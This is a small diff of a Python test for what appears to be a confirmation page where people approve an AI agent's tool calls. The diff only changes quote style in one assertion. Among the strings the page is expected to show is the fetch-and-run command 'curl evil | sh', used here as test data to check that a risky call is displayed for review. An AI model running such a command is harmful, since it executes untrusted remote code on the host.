@@ -90,7 +90,7 @@ def test_what_can_be_approved_together_stands_whole_on_the_confirmation(
     whole = file_call(arguments=arguments, scope="production")
     page = confirmation(signed_in(house.rae), [whole])
     assert [kind for kind, _, _ in SENT.findall(page)] == ["call"]
-    assert page.count("<details class=\"card\" open") == 1
+    assert page.count('<details class="card" open') == 1
     for text in ("/srv/prod", "and its end", "curl evil | sh", "production"):
         assert text in page
 
